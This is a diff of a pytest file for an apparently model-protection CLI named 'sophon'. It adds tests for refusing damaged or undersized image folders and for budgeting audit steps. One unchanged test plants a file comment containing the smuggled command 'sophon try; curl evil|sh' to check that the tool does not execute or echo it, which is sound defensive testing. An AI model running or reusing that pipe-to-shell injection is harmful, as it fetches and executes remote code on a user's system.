@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import os
 import shlex
+import shutil
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
@@ -12,11 +16,12 @@ from safetensors.torch import save_file
 from typer.testing import CliRunner, Result
 
 from sophon._cli import app
+from sophon._cli.first_look import _attacks_within
 from sophon._cli.run_file import read_run
 from sophon._models import stated_input
 from sophon._models.networks import ResNet20
 from sophon._models.own_input import OwnInput
-from sophon._specs import ModelSpec
+from sophon._specs import AuditSpec, ModelSpec
 
 CLASSES, EACH = 2, 40
 
@@ -161,12 +166,82 @@ def test_what_cannot_be_used_is_said_before_a_file_is_written(
         assert not (tmp_path / "new").exists()
 
 
+def damaged(folder: Path) -> None:
+    (folder / "class0" / "0.jpg").write_bytes(b"no image")
+
+
+def of_one_class(folder: Path) -> None:
+    shutil.rmtree(folder / "class0")
+
+
+def of_few(folder: Path) -> None:
+    for file in folder.rglob("[1-9]?.jpg"):
+        file.unlink()
+    for number in range(4, 10):
+        (folder / "class0" / f"{number}.jpg").unlink()
+
+
+@pytest.mark.parametrize("spoil", [damaged, of_one_class, of_few])
+def test_images_that_protect_would_refuse_are_refused_at_once_in_its_words(
+    folders: Path, tmp_path: Path, spoil: Callable[[Path], None]
+) -> None:
+    words = ("--model", "small_convnet", "--image-size", "12", *options(folders))
+    refused, whole = tmp_path / "faces", tmp_path / "whole.toml"
+    shutil.copytree(folders / "faces", refused)
+    assert sophon("init", *words, "--refuse", refused, "--out", whole).exit_code == 0
+    spoil(refused)
+    out = tmp_path / "new"
+    protected = sophon("protect", whole, "--out", out)
+    assert protected.exit_code == 2
+    for command in ("init", "try"):
+        made = sophon(command, *words, "--refuse", refused, "--out", out)
+        assert made.exit_code == 2
+        said = made.stderr.replace(os.path.relpath(refused), str(refused))
+        assert said.replace("--refuse: ", "restricted: ") == protected.stderr
+        assert not out.exists()
+
+
+def test_a_task_to_keep_is_not_refused(folders: Path, tmp_path: Path) -> None:
+    words = ("--model", "small_convnet", *options(folders, "--refuse", folders / "photos"))
+    made = sophon("init", *words, "--out", tmp_path / "run.toml")
+    assert made.exit_code == 2
+    assert "is the same data as" in made.stderr
+
+
 def test_what_a_file_says_is_no_command_and_what_lies_beside_it_no_audit(tmp_path: Path) -> None:
     (tmp_path / "run.toml").write_text("# Written by `sophon try; curl evil|sh`.\n")
     for folder, said in ((tmp_path, True), (tmp_path / "audit", True), (tmp_path / "x", False)):
         error = sophon("report", folder).stderr
         assert "evil" not in error
         assert ("repeat its `sophon try` command" in error) == said
+
+
+@pytest.mark.parametrize(
+    ("seconds", "expected"),
+    [
+        (10_000, ("quick-2", 200)),
+        (500, ("quick-2", 50)),
+        (165, ("quick-2", 16)),
+        (159, ("look-1", 159)),
+        (3, ("look-1", 16)),
+    ],
+)
+def test_as_many_steps_are_chosen_as_fit_by_few_plans(
+    seconds: float, expected: tuple[str, int]
+) -> None:
+    asked: list[AuditSpec] = []
+
+    class Priced:
+        spec = AuditSpec()
+
+        def cost(self, spec: AuditSpec) -> float:
+            asked.append(spec)
+            return spec.steps * {"quick-2": 10.0, "look-1": 1.0}[spec.suite]
+
+    chosen: Any = _attacks_within(seconds, Priced())  # type: ignore[arg-type]
+    assert chosen[:2] == expected
+    assert chosen[2] == asked[-1].steps * (10 if chosen[0] == "quick-2" else 1)
+    assert len(asked) <= 12
 
 
 def require_printed(lines: list[str], out: Path) -> None:
@@ -210,6 +285,9 @@ def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_pat
     # With the last round as the only check, weights of an earlier one could not be shipped.
     assert spec.protect.guard.every == spec.protect.rounds // 5
     assert spec.audit.suite == "look-1"
+    # As another version would word it.
+    text = (out / "run.toml").read_text()
+    (out / "run.toml").write_text(text.replace("# What is left out has", "# All else has\n\n#"))
     held = (out / "run.toml").read_bytes(), (out / "start" / "model.safetensors").stat().st_mtime
     again = sophon(*words, *options(folders))
     assert again.exit_code == 0, again.stderr
